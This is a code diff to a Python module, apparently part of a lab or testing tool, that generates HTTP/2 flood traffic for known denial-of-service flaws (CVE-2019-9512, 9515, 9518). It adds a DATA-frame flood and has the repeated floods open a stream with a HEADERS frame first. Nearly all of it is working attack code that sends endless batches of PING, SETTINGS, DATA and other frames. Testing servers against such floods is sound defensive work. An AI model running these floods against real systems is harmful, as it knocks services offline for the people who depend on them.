@@ -23,7 +23,7 @@ from lab.process import HOST
 BATCH = 1000
 """Frames in one write."""
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
 _END_HEADERS = 0x4
 _CANCEL = struct.pack(">I", 8)
 _CALL = Encoder().encode(
@@ -66,9 +66,10 @@ def _continuation() -> Iterator[bytes]:
 
 
 def _repeated(frame: bytes) -> Callable[[], Iterator[bytes]]:
-    """Return a flood of one frame (CVE-2019-9512, CVE-2019-9515)."""
+    """Return a flood of one frame during a call (CVE-2019-9512, CVE-2019-9515, CVE-2019-9518)."""
 
     def batches() -> Iterator[bytes]:
+        yield _frame(_HEADERS, _END_HEADERS, 1, _CALL)
         batch = frame * BATCH
         while True:
             yield batch
@@ -80,6 +81,7 @@ FLOODS: Mapping[str, Callable[[], Iterator[bytes]]] = {
     "rapid-reset": _rapid_reset,
     "continuation": _continuation,
     "ping": _repeated(_frame(_PING, 0, 0, bytes(8))),
+    "data": _repeated(_frame(_DATA, 0, 1)),
     "settings": _repeated(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
 }
 
